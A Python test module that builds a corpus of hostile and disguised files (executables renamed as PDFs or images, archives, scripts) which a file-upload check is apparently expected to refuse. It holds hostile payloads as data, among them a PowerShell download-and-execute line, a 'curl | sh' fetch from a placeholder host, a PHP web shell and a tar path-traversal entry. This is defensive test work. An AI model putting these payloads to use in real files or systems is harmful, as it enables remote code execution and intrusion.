"""T-56: what is no evidence at all, under its own name and under another's."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib
from functools import partial

from tests.hostile.corpus import heics
from tests.hostile.corpus.hostile import SCRIPT, Hostile, fixed, item
from tests.hostile.corpus.office import EXE, compound
from tests.hostile.corpus.zips import ENCRYPTED, Member, archive, locked

LINK = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(56) + b"cmd.exe /c calc"
NOTES = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1000)


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as whole:
        told = tarfile.TarInfo("../../etc/passwd")
        told.size = 10
        whole.addfile(told, io.BytesIO(b"root:x:0:0"))
    return out.getvalue()


def zipped() -> bytes:
    return archive([Member(b"letter.txt", b"Dear all"), Member(b"run.exe", EXE)])


def locked_zip() -> bytes:
    inside = Member(b"run.exe", EXE)
    inside.packed, inside.flags = locked(inside.bytes_of()), ENCRYPTED
    return archive([inside])


def jar() -> bytes:
    return archive(
        [
            Member(b"META-INF/MANIFEST.MF", b"Main-Class: A\n"),
            Member(b"A.class", b"\xca\xfe\xba\xbe"),
        ]
    )


def apk() -> bytes:
    return archive(
        [Member(b"AndroidManifest.xml", b"\x03\0\x08\0"), Member(b"classes.dex", b"dex\n035\0")]
    )


def iso() -> bytes:
    return bytes(32_768) + b"\x01CD001\x01\0" + bytes(2040) + EXE


def wave() -> bytes:
    return b"RIFF" + struct.pack("<I", 2036) + b"WAVEfmt " + bytes(2000)


def tiff() -> bytes:
    return b"II*\0\x08\0\0\0\0\0\0\0\0\0" + bytes(99)


KINDS = {
    "exe": fixed(EXE),
    "scr": fixed(EXE + b"screen saver"),
    "elf": fixed(b"\x7fELF\x02\x01\x01" + bytes(57)),
    "macho": fixed(b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(60)),
    "msi": partial(compound, "Property", "_StringPool"),
    "lnk": fixed(LINK),
    "class": fixed(b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)),
    "wasm": fixed(b"\0asm\x01\0\0\0" + bytes(40)),
    "dex": fixed(b"dex\n035\0" + bytes(100)),
    "chm": fixed(b"ITSF\x03\0\0\0\x60\0\0\0" + bytes(90)),
    "one": fixed(NOTES),
    "swf": fixed(b"CWS\x0a\xff\0\0\0" + zlib.compress(bytes(255))),
    "iso": iso,
    "zip": zipped,
    "jar": jar,
    "apk": apk,
    "rar": fixed(b"Rar!\x1a\x07\x01\0" + bytes(90)),
    "7z": fixed(b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(90)),
    "tar.gz": tar,
    "bz2": lambda: bz2.compress(EXE),
    "xz": lambda: lzma.compress(EXE),
    "cab": fixed(b"MSCF\0\0\0\0" + bytes(90)),
    "mp4": partial(heics.brand, b"isom", b"mp42"),
    "mov": partial(heics.brand, b"qt  "),
    "avif": partial(heics.brand, b"avif", b"mif1"),
    "mp3": fixed(b"ID3\x04\0\0\0\0\0\0\xff\xfb\x90\x64" + bytes(400)),
    "wav": wave,
    "avi": fixed(b"RIFF\xff\0\0\0AVI LIST" + bytes(250)),
    "webm": fixed(b"\x1aE\xdf\xa3\x01\0\0\0\0\0\0\x1f" + bytes(90)),
    "gif": fixed(b"GIF89a\x01\0\x01\0\0\0\0\x3b"),
    "bmp": fixed(b"BM\x3a\0\0\0\0\0\0\0\x36\0\0\0" + bytes(44)),
    "tiff": tiff,
    "psd": fixed(b"8BPS\0\x01" + bytes(60)),
    "ico": fixed(b"\0\0\x01\0\x01\0\x10\x10" + bytes(60)),
    "eps": fixed(b"%!PS-Adobe-3.0 EPSF-3.0\n(calc) run\n"),
    "html": fixed(b"<!doctype html>\n<title>Canary</title>" + SCRIPT),
    "hta": fixed(b"<html><hta:application/><script language=VBScript>x</script></html>"),
    "xml": fixed(b"<?xml version='1.0'?><x/>"),
    "svgz": lambda: gzip.compress(b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
}
RENAMED = {
    "exe": "pdf", "elf": "jpg", "msi": "docx", "lnk": "pdf", "one": "docx", "zip": "docx",
    "jar": "xlsx", "rar": "pdf", "tar.gz": "odt", "mp4": "heic", "mov": "heic", "avif": "heic",
    "mp3": "jpg", "wav": "webp", "avi": "webp", "gif": "jpg", "hta": "pdf", "html": "txt",
    "iso": "pdf", "bmp": "png", "tiff": "jpg", "eps": "pdf", "xml": "csv", "swf": "png",
}  # fmt: skip
# Programs that are nothing but letters.
WRITTEN = {
    "js": b"new ActiveXObject('WScript.Shell').Run('calc');\n",
    "vbs": b'CreateObject("WScript.Shell").Run "calc"\r\n',
    "ps1": b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://canary.example')\n",
    "bat": b"@echo off\r\nstart calc.exe\r\n",
    "sh": b"#!/bin/sh\ncurl http://canary.example | sh\n",
    "php": b"<?php system($_GET['c']); ?>\n",
    "url": b"[InternetShortcut]\r\nURL=file://canary.example/run.exe\r\n",
    "reg": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n",
    "eml": b"From: a@canary.example\r\nSubject: A\r\nContent-Type: text/html\r\n\r\n<b>a</b>\r\n",
    "ics": b"BEGIN:VCALENDAR\r\nATTACH:file://canary.example/run.exe\r\nEND:VCALENDAR\r\n",
}


def _named(ending: str, shown: str) -> Hostile:
    label = f"T-56-{ending}" if shown == ending else f"T-56-{ending}-named-{shown}"
    return item(label.replace(".", "-"), f"evidence.{shown}", KINDS[ending], "refused")


ITEMS = (
    *(_named(ending, ending) for ending in KINDS),
    *(_named(ending, shown) for ending, shown in RENAMED.items()),
    *(
        item(f"T-56-{ending}", f"evidence.{ending}", fixed(content), "refused")
        for ending, content in WRITTEN.items()
    ),
    item("T-49-zip-encrypted", "letters.zip", locked_zip, "refused"),
    item("T-49-zip-encrypted-named-docx", "letters.docx", locked_zip, "refused"),
)
